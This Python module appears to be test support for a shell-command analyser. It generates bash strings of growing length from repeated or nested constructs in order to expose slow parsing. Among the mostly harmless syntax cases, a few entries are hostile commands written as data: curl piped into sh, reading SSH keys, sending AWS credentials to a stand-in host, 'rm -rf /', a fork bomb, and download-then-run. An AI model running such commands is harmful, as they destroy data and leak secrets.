"""Hostile shapes: each makes a command of a wanted length out of one construct, repeated or nested.

A shape that the analysis walks in more than linear time shows when its length doubles.
"""

from __future__ import annotations

from typing import Callable, Mapping

Shape = Callable[[int], str]
"""Takes a length in characters and returns a command of about that length."""


def repeat(unit: str, head: str = "", tail: str = "") -> Shape:
    """Return the shape that stands *unit* again and again between *head* and *tail*."""
    return lambda length: head + unit * max(1, (length - len(head) - len(tail)) // len(unit)) + tail


def numbered(unit: str, head: str = "", tail: str = "") -> Shape:
    """Like `repeat`; `#` in *unit* is the number of the piece, so that no two are the same."""

    def shape(length: int) -> str:
        parts: list[str] = []
        left = length - len(head) - len(tail)
        while left > 0:
            parts.append(unit.replace("#", str(len(parts))))
            left -= len(parts[-1])
        return head + "".join(parts) + tail

    return shape


def nested(opening: str, closing: str, core: str = "ls") -> Shape:
    """Return the shape that stands *core* between ever more *opening* and *closing*."""

    def shape(length: int) -> str:
        depth = max(1, (length - len(core)) // len(opening + closing))
        return opening * depth + core + closing * depth

    return shape


def here_documents(quoted: bool, line: str = "text $x\n") -> Shape:
    """Return the shape of one command with a here-document of many *line*s."""
    label = "'EOF'" if quoted else "EOF"
    return repeat(line, f"cat <<{label}\n", "EOF\n")


def many_here_documents(length: int) -> str:
    """Return a line that begins many here-documents, and their bodies."""
    count = max(1, length // 20)
    return "cat" + "".join(f" <<E{n}" for n in range(count)) + "\n" + "".join(f"x\nE{n}\n" for n in range(count))


def calling_functions(length: int) -> str:
    """Return functions of which each calls the one before it twice, and a call of the last one."""
    count = max(1, length // 30)
    bodies = "".join(f"f{n}() {{ f{n - 1}; f{n - 1}; }}\n" for n in range(1, count))
    return f"f0() {{ ls; }}\n{bodies}f{count - 1}\n"


def nested_functions(length: int) -> str:
    """Return functions defined inside of functions, each called where it is defined."""
    count = max(1, length // 24)
    text = "ls"
    for n in range(count):
        text = f"f{n}() {{ {text}; }}; f{n}"
    return text


def nested_loops(head: str) -> Shape:
    """Return the shape of loops inside of loops; *head* is the first line of each, `#` its depth."""

    def shape(length: int) -> str:
        depth = max(1, length // (len(head) + 12))
        return "".join(head.replace("#", str(n)) + " " for n in range(depth)) + "x=1; ls; " + "done; " * depth

    return shape


def quoted_scripts(length: int) -> str:
    """Return `bash -c` inside of `bash -c`, as deep as the doubled quotes leave room for."""
    text = "ls"
    while True:
        quoted = "bash -c '" + text.replace("'", "'\\''") + "'"
        if len(quoted) > length:
            return text + " " * max(0, length - len(text)) + ";ls"
        text = quoted


_LISTS: Mapping[str, Shape] = {
    "commands; ": repeat("ls a;"),
    "commands on lines": repeat("cat f\n"),
    "different commands": numbered("tool# a#\n"),
    "and-lists": repeat("ls&&", tail="ls"),
    "or-lists": repeat("ls||", tail="ls"),
    "and-lists of cd": repeat("cd a&&", tail="ls"),
    "mixed lists of cd": repeat("cd a&&cd b||", tail="ls"),
    "jobs": repeat("ls&"),
    "pipelines": repeat("cat|", tail="cat"),
    "pipelines of groups": repeat("{ cat;}|", tail="cat"),
    "downloads piped": repeat("curl a|", tail="sh"),
    "negations": repeat("! ", tail="ls"),
    "times": repeat("time ", tail="ls"),
    "assignments": numbered("v#=1;"),
    "assignments in one statement": numbered("v#=1 "),
    "assignments in front": numbered("v#=1 ", tail="ls"),
    "growing assignments": repeat("x=$x$x;", head="x=ab;"),
    "appending assignments": repeat("x+=abc;", head="x=ab;"),
    "assignments of a long value": repeat('y="$x";', head="x=" + "a" * 4_000 + ";"),
    "exports": numbered("export PATH#=1;"),
    "dangerous assignments": numbered("export LD_PRELOAD=$v#;"),
    "cd": numbered("cd d#;"),
    "cd up": repeat("cd ..;"),
    "cd and read": numbered("cd d# || cat f;"),
    "comments": repeat("#\n"),
    "one comment": repeat("x", head="ls #"),
    "blank lines": repeat("\n", tail="ls"),
    "blanks": repeat(" ", head="ls", tail="a"),
    "continued lines": repeat("\\\n", head="ls ", tail=" a"),
    "traps": repeat("trap 'ls' 0;"),
    "traps behind changes": repeat("trap 'ls' 0;x=1;"),
    "functions defined": numbered("f#(){ ls;};"),
    "functions called": repeat("f;", head="f(){ ls; };"),
    "functions that call each other": calling_functions,
    "functions in functions": nested_functions,
    "functions that call themselves": repeat("f(){ g; };g(){ f; };f;"),
    "aliases": numbered("alias a#=ls;"),
    "sets": repeat("set -e;"),
    "unsets": numbered("unset v#;"),
    "reads": numbered("read v#;"),
    "sources": repeat(". ./f;"),
    "evals": repeat("eval ls;"),
    "eval of a long text": repeat("ls;", "eval '", "'"),
    "evals of variables": repeat("eval $x;", head="x='ls a';"),
    "scripts": repeat("sh -c ls;"),
    "a long script": repeat("ls;", "bash -c '", "'"),
    "scripts in scripts": quoted_scripts,
    "scripts of a variable": repeat('bash -c "$x";', head="x='" + "ls;" * 1_000 + "';"),
    "evals of a long variable": repeat("eval $x;", head="x='" + "x=1;" * 500 + "';"),
    "evals of words": repeat("x ", "eval ", ""),
}

_COMPOUNDS: Mapping[str, Shape] = {
    "subshells": nested("(", ")"),
    "spaced subshells": nested("( ", " )"),
    "groups": nested("{ ", ";}"),
    "ifs": nested("if ls;then ", ";fi"),
    "if conditions": nested("if ", ";then ls;fi"),
    "elifs": repeat("elif ls;then ls;", "if ls;then ls;", "fi"),
    "many ifs": repeat("if a;then b;fi;"),
    "whiles": nested_loops("while ls; do"),
    "fors over constants": nested_loops("for v# in 1 2 3 4 5 6 7 8 9 a b c d e f g; do"),
    "fors over the unknown": nested_loops("for v# in $x; do"),
    "fors that assign": repeat(
        "x=$i;", "for i in 1 2 3 4 5 6 7 8 9 a b c d e f g;do for j in 1 2 3 4 5 6 7 8 9 a b c;do ", "done;done"
    ),
    "fors in sequence": repeat("for i in 1 2 3 4 5 6 7 8;do x=$i;done;"),
    "fors of many words": repeat("a ", "for i in ", ";do ls;done"),
    "arithmetic fors": nested_loops("for ((i=0;i<3;i++)); do"),
    "selects": nested_loops("select v# in a b; do"),
    "cases": nested("case x in a) ", ";;esac"),
    "items of a case": repeat("a) ls;;", "case x in ", "esac"),
    "items that assign": numbered("a#) v#=1;;", "case x in ", "esac"),
    "items that fall through": numbered("a#) v#=1;&", "case x in ", "esac"),
    "patterns of an item": repeat("a|", "case x in ", "a) ls;;esac"),
    "tests": repeat("[ -f a ]&&", tail="ls"),
    "a long test": repeat("-f a -a ", "[ ", "-f a ]"),
    "a long double test": repeat("-f a && ", "[[ ", "-f a ]]"),
    "nested tests": nested("[[ ( ", " ) ]]", "-f a"),
    "nested parentheses in a test": lambda length: "[[ " + nested("( ", " )", "-f a")(length) + " ]]",
    "numeric tests": repeat("a -eq 1 && ", "[[ ", "b -eq 2 ]]"),
    "negated tests": repeat("! ", "[[ ", "-f a ]]"),
    "coprocs": nested("coproc ", ""),
    "reserved words": repeat("then do "),
    "openings of if": repeat("if "),
    "openings of case": repeat("case x in "),
    "openings of for": repeat("for i in a; do "),
    "openings of groups": repeat("{ "),
    "openings of subshells": repeat("("),
    "closings": repeat(")"),
    "closings before a long word": lambda length: ")" * min(700, length // 4) + "a" * (length * 3 // 4),
    "closings behind a quoted text": lambda length: "ls '" + "a" * (length // 2) + "'" + ")" * (length // 2),
    "closings behind quoted operators": lambda length: "ls '" + "(" * (length // 2) + "'" + ")" * (length // 2),
    "openings of functions": repeat("f() { "),
}

_EXPANSIONS: Mapping[str, Shape] = {
    "substitutions": nested("$(", ")"),
    "quoted substitutions": nested('"$(', ')"'),
    "substitutions with a command": nested("echo $(", ")"),
    "substitutions in sequence": repeat("$(ls)", "echo "),
    "substitutions as words": repeat("$(ls) ", "echo "),
    "backticks": repeat("`ls` ", "echo "),
    "open backticks": repeat("`"),
    "escaped backticks": repeat("\\`", "echo `", "`"),
    "process substitutions": nested("<(", ")"),
    "process substitutions as words": repeat("<(ls) ", "cat "),
    "arithmetic": nested("$((", "))", "1"),
    "arithmetic as words": repeat("$((1+1)) ", "echo "),
    "a long sum": repeat("1+", "echo $((", "1))"),
    "a long sum of names": repeat("a+", "echo $((", "a))"),
    "assignments in arithmetic": repeat("a=", "echo $((", "1))"),
    "many names in arithmetic": numbered("a#=", "(( ", "1 ))"),
    "parentheses in arithmetic": lambda length: "echo $((" + nested("(", ")", "1")(length) + "))",
    "ternaries in arithmetic": repeat("1?2:", "echo $((", "3))"),
    "let": repeat("let a=1;"),
    "defaults": nested("${x:-", "}", "a"),
    "quoted defaults": nested('"${x:-', '}"', "a"),
    "defaults as words": repeat("${x:-a} ", "echo "),
    "replacements": nested("${x/a/", "}", "b"),
    "assigning defaults": repeat("${x:=a}", "echo "),
    "variables": repeat("$x ", "echo "),
    "known variables": repeat("$x ", "x=a; echo "),
    "known variables of many words": repeat("$x ", "x='" + "a " * 500 + "'; echo "),
    "long known variables": repeat("$x ", "x=" + "a" * 2_000 + "; echo "),
    "long known variables, glued": repeat("$x", "x=" + "a" * 2_000 + "; echo "),
    "long variables as paths": repeat("$x ", "x=" + "a/" * 1_000 + "; cat "),
    "variables in one word": repeat("$x", "echo "),
    "quoted variables in one word": repeat("$x", 'echo "', '"'),
    "indirections": repeat("${!x} ", "echo "),
    "subscripts": nested("${a[", "]}", "1"),
    "lengths": repeat("${#x} ", "echo "),
    "slices": repeat("${x:1:2} ", "echo "),
    "arrays": repeat("a ", "a=(", ")"),
    "array elements": numbered("a[#]=1;"),
    "brace bombs": repeat("{1..9}", "echo "),
    "small brace bombs": repeat("{a,b} ", "echo "),
    "nested braces": lambda length: "echo " + nested("{a,", "}", "b")(length),
    "open braces": repeat("{", "echo a"),
    "open braces with commas": repeat("{a,", "echo "),
    "braces as words": repeat("{1..200} ", "ls "),
    "braces of paths": repeat("{a,b}{c,d}{e,f}{1..30} ", "cat "),
    "braces of a long word": repeat("a", "cat {1..250}", ""),
    "commas in braces": repeat("a,", "cat {", "b}"),
    "wide sequences": repeat("9", "echo {1..", "}"),
    "tildes": repeat("~/a ", "cat "),
    "globs": repeat("*", "cat "),
    "stars between letters": repeat("*a", "cat ", "b"),
    "globs as words": repeat("*/a ", "cat "),
    "brackets": repeat("[", "cat "),
    "bracket expressions": repeat("[ab]", "cat "),
    "bracket bombs": repeat("[*", "cat "),
    "extended globs": repeat("@(a|b)", "cat "),
    "nested extended globs": lambda length: "cat " + nested("+(a|", ")", "b")(length),
    "question marks": repeat("?", "cat "),
    "dollars": repeat("$", "echo "),
    "indirect dollars": repeat("$$", "echo "),
}

_WORDS: Mapping[str, Shape] = {
    "a long name": repeat("a"),
    "a long word": repeat("a", "ls "),
    "a long path": repeat("a/", "cat /"),
    "a path of dots": repeat("../", "cat "),
    "a path of dots from a root": repeat("a/../", "cat /"),
    "a path of slashes": repeat("/", "cat "),
    "words": repeat("a ", "cat "),
    "numbered words": numbered("f# ", "cat "),
    "deleted words": numbered("f# ", "rm "),
    "relative words in several directories": numbered("f# ", "cd a || cd b || cd c; rm "),
    "words for an unknown program": repeat("a ", "tool "),
    "options": repeat("-a ", "ls "),
    "a long cluster of options": repeat("l", "ls -"),
    "long options": repeat("--all ", "ls "),
    "cut options": repeat("--al ", "ls "),
    "unknown options": numbered("--x# ", "ls "),
    "unknown options of git": numbered("--x# ", "git log "),
    "single quotes": repeat("''", "echo "),
    "quoted pieces": repeat("'a'b", "echo "),
    "double quotes": repeat('""', "echo "),
    "double-quoted pieces": repeat('"a"b', "echo "),
    "a long single-quoted text": repeat("a b\n", "echo '", "'"),
    "a long double-quoted text": repeat("a b\n", 'echo "', '"'),
    "double-quoted escapes": repeat("\\\\", 'echo "', '"'),
    "double-quoted dollars": repeat("$ ", 'echo "', '"'),
    "open single quote": repeat("a b ", "echo '"),
    "open double quote": repeat("a b ", 'echo "'),
    "unbalanced quotes": repeat("a' b\" "),
    "many open double quotes": repeat('"$(', "echo "),
    "backslashes": repeat("\\", "echo "),
    "escaped letters": repeat("\\a", "echo "),
    "ANSI-C escapes": repeat("\\x41", "echo $'", "'"),
    "ANSI-C bad escapes": repeat("\\xzz\\u", "echo $'", "'"),
    "ANSI-C strings": repeat("$'a'", "echo "),
    "translated strings": repeat('$"a"', "echo "),
    "letters beyond ASCII": repeat("é", "cat "),
    "words beyond ASCII": repeat("é ", "cat "),
    "commands beyond ASCII": repeat("cat é;"),
    "astral characters": repeat("😀 ", "cat "),
    "astral braces": repeat("{😀", "cat "),
    "combining characters": repeat("á", "cat "),
    "private-use characters": repeat("\ue000\ue001", "cat "),
    "surrogates": repeat("\ud800", "cat "),
    "NULs": repeat("\0", "ls "),
    "carriage returns": repeat("ls\r\n"),
    "control characters": repeat("\x01\x7f\x1b[0m", "ls "),
    "tabs": repeat("\t", "ls", "a"),
    "separators": repeat("\u2028", "ls "),
    "redirects": repeat(">a ", "ls "),
    "numbered redirects": numbered(">f# ", "ls "),
    "descriptor redirects": repeat("2>&1 ", "ls "),
    "redirects alone": repeat(">a;"),
    "open redirects": repeat("> ", "ls "),
    "redirects of a list": repeat("cd a&&", tail="cat <f"),
    "ampersands": repeat("&"),
    "semicolons": repeat(";"),
    "less-thans": repeat("<"),
    "exclamation marks": repeat("!"),
    "here-strings": repeat("<<<a ", "cat "),
    "here-documents on a line": many_here_documents,
    "here-documents in sequence": repeat("cat <<E\na\nE\n"),
    "a quoted here-document": here_documents(quoted=True),
    "an expanding here-document": here_documents(quoted=False),
    "a here-document of substitutions": here_documents(quoted=False, line="$(ls)\n"),
    "a here-document of backticks": here_documents(quoted=False, line="`ls`\n"),
    "a here-document of escapes": here_documents(quoted=False, line="\\\\\\\n"),
    "a here-document of blank lines": here_documents(quoted=True, line="\n"),
    "a here-document without an end": repeat("text\n", "cat <<EOF\n"),
    "here-documents without ends": repeat("cat <<E\n"),
    "a here-document with a long label": lambda length: f"cat <<{'E' * (length // 2)}\n{'E' * (length // 2)}\n",
    "here-documents in substitutions": repeat("$(cat <<E\na\nE\n)", "echo "),
    "openings of here-documents": repeat("<<"),
    "a script in a here-document": here_documents(quoted=True, line="ls;x=1\n"),
    "a shell fed with a here-document": repeat("ls\n", "bash <<'EOF'\n", "EOF\n"),
}

_PROGRAMS: Mapping[str, Shape] = {
    "wrappers": repeat("sudo ", tail="ls"),
    "wrappers of wrappers": repeat("env nice ", tail="ls"),
    "timeouts": repeat("timeout 1 ", tail="ls"),
    "xargs": repeat("xargs ", tail="ls"),
    "commands": repeat("command ", tail="ls"),
    "execs": repeat("exec ", tail="ls"),
    "env assignments": numbered("v#=1 ", "env ", "ls"),
    "env of assignments that execute": numbered("LD_PRELOAD=/a# ", "env ", "ls"),
    "env of a long PATH": repeat("/a:", "PYTHONPATH=", " ls"),
    "find -exec": repeat("-exec ls {} \\; ", "find . "),
    "find parentheses": lambda length: "find . " + nested("\\( ", "\\) ", "-name a ")(length),
    "find names": repeat("-name a -o ", "find . ", "-name b"),
    "find roots": numbered("d# ", "find ", "-exec rm {} +"),
    "find roots with several commands": lambda length: (
        numbered("d# ", "find ")(length // 2) + repeat("-exec rm {} + ")(length // 2)
    ),
    "find -exec of scripts": repeat("-exec sh -c ls \\; ", "find . "),
    "git -c": repeat("-c a.b=c ", "git ", "log"),
    "git aliases": repeat("-c alias.a='!ls' ", "git ", "a"),
    "git -C": repeat("-C a ", "git ", "log"),
    "sed commands": repeat("s/a/b/;", "sed '", "' f"),
    "sed blocks": repeat("/a/{p;};", "sed '", "' f"),
    "sed open blocks": repeat("{", "sed '", "' f"),
    "sed labels": repeat(":a;b a;", "sed '", "' f"),
    "sed labels on lines": repeat(":a\nba\n", "sed '", "' f"),
    "sed slashes": repeat("/", "sed 's", "' f"),
    "sed brackets": repeat("[", "sed 's/", "/b/' f"),
    "sed text": repeat("a\\\nx\n", "sed '", "' f"),
    "sed writes": numbered("w f#\n", "sed '", "' f"),
    "sed expressions": repeat("-e s/a/b/ ", "sed ", "f"),
    "sed backups": numbered("f# ", "sed -i.bak s/a/b/ "),
    "awk rules": repeat("{print $1};", "awk '", "' f"),
    "awk strings": repeat('"a" ', "awk '{print ", "}' f"),
    "awk regexes": repeat("/a/,/b/{x=1}\n", "awk '", "' f"),
    "awk slashes": repeat("a/", "awk '{print ", "1}' f"),
    "awk open braces": repeat("{", "awk '", "' f"),
    "awk brackets": repeat("[", "awk '/", "/' f"),
    "awk redirects": repeat('print > "f";', "awk '{", "}' f"),
    "awk redirects to files": numbered('print > "f#";', "awk '{", "}' f"),
    "awk systems": repeat('system("ls");', "awk '{", "}' f"),
    "awk functions": numbered("function f#(x){return x}\n", "awk '", "BEGIN{f0(1)}' f"),
    "awk getlines": repeat('getline < "f";', "awk '{", "}' f"),
    "awk pipes": repeat('print | "sort";', "awk '{", "}' f"),
    "awk comments": repeat("#\n", "awk '", "{print}' f"),
    "awk assignments": numbered("-v v#=1 ", "awk ", "1 f"),
    "jq filters": repeat(".a|", "jq '", ".' f"),
    "jq brackets": repeat("[", "jq '", "' f"),
    "jq strings": repeat('"\\(.a)"', "jq '", "' f"),
    "jq arguments": repeat("--arg a b ", "jq ", ". f"),
    "jq includes": repeat('include "a";', "jq '", ".' f"),
    "python sums": repeat("1+", "python -c '", "1'"),
    "python statements": repeat("x=1\n", "python -c '", "'"),
    "python prints": repeat("print(1)\n", "python -c '", "'"),
    "python parentheses": lambda length: f"python -c '{nested('(', ')', '1')(length)}'",
    "python lists": lambda length: f"python -c '{nested('[', ']', '1')(length)}'",
    "python subscripts": repeat("[0]", "python -c 'x", "'"),
    "python attributes": repeat(".a", "python -c 'x", "'"),
    "python calls": repeat("()", "python -c 'f", "'"),
    "python minuses": repeat("-", "python -c '", "1'"),
    "python nots": repeat("not ", "python -c '", "1'"),
    "python lambdas": repeat("lambda:", "python -c '", "1'"),
    "python names": numbered("a#=", "python -c '", "1'"),
    "python imports": repeat("import os\n", "python -c '", "'"),
    "python known imports": repeat("import json\n", "python -c '", "'"),
    "python functions": numbered("def f#(): return 1\n", "python -c '", "'"),
    "python nested functions": lambda length: (
        "python -c '" + "".join(" " * n + f"def f{n}():\n" for n in range(max(1, int((length * 2) ** 0.5) - 4))) + "'"
    ),
    "python classes": numbered("class C#: pass\n", "python -c '", "'"),
    "python strings": repeat('"a"', "python -c '", "'"),
    "python f-strings": repeat('f"{a}"', "python -c '", "'"),
    "python formats": repeat('"{a}".format(a=1)\n', "python -c '", "'"),
    "python replacement fields": repeat("{a:{b}", "python -c 'print(\"", "\".format(a=1))'"),
    "python numbers": repeat("9", "python -c 'print(", ")'"),
    "python fed": repeat("x=1\n", "python <<'EOF'\n", "EOF\n"),
    "pythons": repeat("python -c 'print(1)';"),
    "pythons of a long text": repeat("python -c '" + "print(1);" * 1_000 + "1';"),
    "node texts": repeat("f();", "node -e '", "'"),
    "perl texts": repeat("s/a/b/;", "perl -pe '", "' f"),
    "ruby texts": repeat("puts 1;", "ruby -e '", "'"),
    "sql statements": repeat("select 1;", "psql -c '", "'"),
    "sqlite statements": repeat("select 1;", "sqlite3 a.db '", "'"),
    "sql quotes": repeat("''", "psql -c \"select '", "'\""),
    "sql comments": repeat("/*", "psql -c '", "'"),
    "sql dashes": repeat("--\n", "sqlite3 a.db '", "'"),
    "curl addresses": repeat("http://a/b ", "curl "),
    "curl forms": repeat("-F a=@f ", "curl ", "http://a"),
    "curl outputs": repeat("-o f ", "curl ", "http://a"),
    "wget addresses": repeat("http://a/b ", "wget "),
    "ssh options": repeat("-o A=b ", "ssh ", "h ls"),
    "ssh jumps": repeat("a@b,", "ssh -J ", "c d ls"),
    "ssh commands": repeat("ls;", "ssh h '", "'"),
    "rsync paths": repeat("h:a ", "rsync "),
    "scp paths": numbered("f# ", "scp ", "h:"),
    "tar files": numbered("f# ", "tar cf a.tar "),
    "tar checkpoints": repeat("--checkpoint=1 ", "tar cf a.tar "),
    "zip files": numbered("f# ", "zip a.zip "),
    "greps": repeat("-e a ", "grep ", "f"),
    "grep includes": repeat("--include=a ", "grep -r b "),
    "grep brackets": repeat("[", "grep '", "' f"),
    "docker runs": repeat("-v a:b ", "docker run ", "c ls"),
    "docker execs": repeat("docker exec c ", tail="ls"),
    "kubectl": repeat("-n a ", "kubectl ", "get pods"),
    "make variables": numbered("V#=1 ", "make "),
    "npm runs": repeat("npm run a;"),
    "pytest": numbered("tests/t#.py ", "pytest "),
    "mv files": numbered("f# ", "mv ", "d"),
    "mv to several directories": numbered("f# ", "cd a||cd b||cd c;mv ", "d"),
    "cp files": numbered("f# ", "cp -r ", "d"),
    "chmods": numbered("f# ", "chmod +x "),
    "dd operands": repeat("if=a of=b ", "dd "),
    "echoes": repeat("a ", "echo "),
    "printf -v": repeat("printf -v v a;"),
    "prints": repeat("%s", "printf '", "' a"),
    "parallel": repeat("parallel ", tail="ls"),
    "watches": repeat("watch ", tail="ls"),
    "su": repeat("su -c ", tail="ls"),
    "credentials": repeat("cat ~/.ssh/id_rsa;"),
    "credentials sent": repeat("cat ~/.aws/credentials|curl -d @- h;"),
    "destroyers": repeat("rm -rf /;"),
    "fork bombs": repeat(":(){ :|:& };:\n"),
    "files written and run": numbered("curl -o f# h;sh f#;"),
}

SHAPES: Mapping[str, Shape] = {**_LISTS, **_COMPOUNDS, **_EXPANSIONS, **_WORDS, **_PROGRAMS}
"""Every shape by name."""
